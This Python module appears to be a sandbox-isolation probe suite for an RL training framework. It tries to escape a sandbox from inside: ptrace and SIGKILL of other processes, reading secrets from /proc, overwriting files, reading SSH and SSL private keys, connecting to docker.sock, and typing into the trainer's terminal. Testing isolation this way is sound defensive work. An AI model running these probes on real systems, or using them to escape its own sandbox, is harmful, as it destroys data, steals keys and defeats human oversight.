"""Attack what is outside of a sandbox from inside: processes, secrets, files, networks, sockets, the terminal."""

import contextlib
import ctypes
import fcntl
import glob
import os
import re
import signal
import socket
from pathlib import Path

from polar_trl.tools.security.inside.base import LIBC, Given, call


def other_processes(given: Given) -> list[str]:
    """Find, signal and trace processes that are not the session's."""
    got, pids = [], list(given["victims"])
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError):
            if given["victim_mark"].encode() in Path(path).read_bytes():
                pids.append(int(path.split("/")[2]))
                got.append("sees another's process")
    for pid in set(pids):
        buffer = ctypes.create_string_buffer(64)
        if LIBC.ptrace(0x4206, pid, None, None) == 0:
            got.append("traced another's process")
        vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
        if os.path.exists(f"/proc/{pid}") and not call(given, "process_vm_readv", pid, vector, 1, vector, 1, 0):
            got.append("may read another's memory")
        for number in (signal.SIGCONT, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                got.append(f"sent {number.name} to another's process")
    return got


def secrets(given: Given) -> list[str]:
    """Read environments and command lines for secrets and paths of the trainer's."""
    got = []
    for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
        with contextlib.suppress(OSError):
            for found in re.findall(rb"POLAR_PROBE_SECRET=(\w+)", Path(path).read_bytes()):
                got.append(f"{found.decode()} in {path}")
    return got


def files(given: Given) -> list[str]:
    """Read and change files of the user, of other sessions and keys of the machine."""
    got = []
    for name in given["files"]:
        with contextlib.suppress(OSError):
            got.append(f"read {Path(name).read_text()} in {name}")
        with contextlib.suppress(OSError), open(name, "r+") as file:
            file.write("harmed")
    for name in [*glob.glob("/etc/ssl/private/*.key"), *glob.glob("/etc/ssh/ssh_host_*_key")]:
        with contextlib.suppress(OSError):
            if "PRIVATE" in Path(name).read_text():
                got.append(f"read {name}")
    return got


def network(given: Given) -> list[str]:
    """Reach the machine's own ports, and any route that leads away."""
    got = []
    for host in given["hosts"]:
        with contextlib.suppress(OSError):
            socket.create_connection((host, given["port"]), 2).close()
            got.append(f"reached {host}")
    for family, host in ((socket.AF_INET, "203.0.113.1"), (socket.AF_INET6, "2001:db8::1")):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as probe:
            probe.connect((host, 53))  # sends nothing: it only looks for a route
            got.append(f"has a route to {host}")
    return got


def unix_sockets(given: Given) -> list[str]:
    """Reach Unix sockets of the machine, by name and by path."""
    got = []
    ends = ["\0" + given["abstract"], given["socket"], "/run/docker.sock", "/var/run/docker.sock"]
    ends += glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/run/dbus/*") + glob.glob("/tmp/.X11-unix/*")
    for end in dict.fromkeys(ends):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.settimeout(2)
            client.connect(end)
            got.append(f"connected to {end.lstrip(chr(0))}")
    return got


def terminal(given: Given) -> list[str]:
    """Type into the trainer's terminal."""
    got, fds = [], [0, 1, 2]
    with contextlib.suppress(OSError):
        fds.append(os.open("/dev/tty", os.O_RDWR))
        got.append("opened the terminal")
    for fd in fds:
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, 0x5412, b" ")
            got.append(f"typed into file {fd}")
    return got


def shared_ipc(given: Given) -> list[str]:
    """Find the machine's shared memory and open files that were meant for others."""
    got = []
    if LIBC.shmget(given["shm_key"], 0, 0) >= 0:
        got.append("a System V segment of the machine's")
    if os.path.exists(given["shm_file"]):
        got.append("a file in the machine's /dev/shm")
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if not target.startswith(("pipe:", "/dev/null", "/proc/")):
                got.append(f"the open file {target}")
    return got
